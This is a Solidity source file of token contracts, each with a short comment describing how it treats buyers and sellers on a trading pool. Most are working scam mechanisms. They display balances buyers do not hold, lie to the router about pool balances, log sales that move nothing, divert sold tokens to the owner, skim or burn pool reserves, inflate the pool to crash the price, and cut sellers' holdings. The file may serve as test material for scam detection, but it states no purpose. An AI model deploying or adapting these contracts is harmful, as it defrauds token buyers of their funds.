// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IPair, PlainToken, PooledToken} from "./PlainToken.sol";

/// Shows buyers what they paid for; they hold a millionth of it.
contract ShownPurchases is PooledToken {
    mapping(address => uint256) private _shown;

    constructor() PlainToken("Shown Purchases") {}

    function balanceOf(address who) public view override returns (uint256) {
        return _balances[who] + _shown[who];
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (from == pair && to != owner) {
            uint256 taken = amount - amount / 1_000_000;
            _balances[to] -= taken;
            _balances[owner] += taken;
            _shown[to] += taken;
        }
    }
}

/// Tells the router that nothing has arrived at the pool.
contract ToldRouter is ERC20 {
    address private immutable _router;

    constructor(address router) ERC20("Told Router", "TOLD") {
        _router = router;
        _mint(msg.sender, 10_000_000 ether);
    }

    function balanceOf(address who) public view override returns (uint256) {
        uint256 held = super.balanceOf(who);
        // Purchases ask for the balance of an account, sales for that of a pool.
        if (msg.sender != _router || who.code.length == 0) return held;
        (uint256 left, uint256 right, ) = IPair(who).getReserves();
        return IPair(who).token0() == address(this) ? left : right;
    }
}

/// Reports success and logs a transfer, but a sale moves nothing.
contract NothingMoves is PooledToken {
    constructor() PlainToken("Nothing Moves") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) emit Transfer(from, to, amount);
        else _move(from, to, amount);
    }
}

/// What is sold goes to the owner in place of the pool.
contract Diverted is ERC20 {
    address private immutable _keeper = msg.sender;
    mapping(address => bool) private _hasHeld;

    constructor() ERC20("Diverted", "DIV") {
        _mint(msg.sender, 10_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from.code.length > 0) _hasHeld[to] = true;
        bool sale = _hasHeld[from] && to.code.length > 0;
        super._update(from, sale ? _keeper : to, value);
    }
}

/// Pulls sold tokens out of the pool again by its own function `skim`, before the router counts them.
contract SkimmedSales is PooledToken {
    constructor() PlainToken("Skimmed Sales") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (to == pair && from != owner && from != pair) IPair(pair).skim(owner);
    }
}

/// Skims all but a hundredth of a sale.
contract MostlySkimmed is PooledToken {
    constructor() PlainToken("Mostly Skimmed") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to != pair || from == owner) return _move(from, to, amount);
        _move(from, to, amount - amount / 100);
        IPair(to).skim(owner);
        _move(from, to, amount / 100);
    }
}

/// The pool takes sold tokens into its reserves before the router counts them.
contract SyncedSales is PooledToken {
    constructor() PlainToken("Synced Sales") {}

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _move(from, to, amount);
        if (to == pair && from != owner) IPair(to).sync();
        return true;
    }
}

/// A sale burns tokens of the pool, so that it has received less than nothing.
contract BurningPool is PooledToken {
    constructor() PlainToken("Burning Pool") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (to == pair && from != owner) {
            uint256 burnt = amount + _balances[pair] / 1_000;
            _balances[pair] -= burnt;
            totalSupply -= burnt;
            emit Transfer(pair, address(0), burnt);
        }
    }
}

/// A sale first moves all tokens but a few out of the pool's books to where the price is nothing.
contract InflatedPool is PooledToken {
    constructor() PlainToken("Inflated Pool") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            // A thousand times as many tokens in the pool: a thousandth of the price.
            _balances[to] += _balances[to] * 999;
            IPair(to).sync();
        }
        _move(from, to, amount);
    }
}

/// Balances are shares of a supply; a sale reduces the seller's to a hundredth first.
contract RebasedSellers is PooledToken {
    mapping(address => uint256) private _epoch;
    uint256 public epoch;

    event Rebased(address indexed who, uint256 from, uint256 to);

    constructor() PlainToken("Rebased Sellers") {}

    function setEpoch(uint256 to) external onlyOwner {
        epoch = to;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner && _epoch[from] < epoch) {
            uint256 held = _balances[from];
            _balances[from] = held / 100;
            totalSupply -= held - held / 100;
            emit Rebased(from, held, held / 100);
            _epoch[from] = epoch;
            amount = amount / 100;
        }
        _move(from, to, amount);
    }
}

/// Each purchase by anyone dilutes the purchases before; the first sale of a holder settles it.
contract LateSettlement is PooledToken {
    mapping(address => uint256) private _owed;

    constructor() PlainToken("Late Settlement") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair) _owed[to] += (amount * 98) / 100;
        uint256 owed = _owed[from];
        if (to != pair || owed == 0) return _move(from, to, amount);
        _owed[from] = 0;
        if (owed > amount) owed = amount;
        _move(from, owner, owed);
        _move(from, to, amount - owed);
    }
}

/// Elastic supply: balances are shares; the index grows by the owner's reports.
contract ElasticShares {
    string public constant name = "Elastic Shares";
    string public constant symbol = "ELAST";
    uint8 public constant decimals = 18;
    uint256 private constant SHARES = 10_000_000 ether;
    uint256 public index = 1 ether;
    address public owner;
    mapping(address => uint256) public sharesOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(address owner_) {
        owner = owner_;
        sharesOf[msg.sender] = SHARES;
    }

    function totalSupply() external view returns (uint256) {
        return (SHARES * index) / 1 ether;
    }

    function balanceOf(address who) public view returns (uint256) {
        return (sharesOf[who] * index) / 1 ether;
    }

    /// At most 1 % up, never down.
    function report(uint256 to, address pool) external {
        require(msg.sender == owner && to >= index && to <= (index * 101) / 100, "report");
        index = to;
        IPair(pool).sync();
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        return _send(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _send(from, to, amount);
    }

    function _send(address from, address to, uint256 amount) private returns (bool) {
        uint256 shares = (amount * 1 ether) / index;
        sharesOf[from] -= shares;
        sharesOf[to] += shares;
        emit Transfer(from, to, amount);
        return true;
    }
}
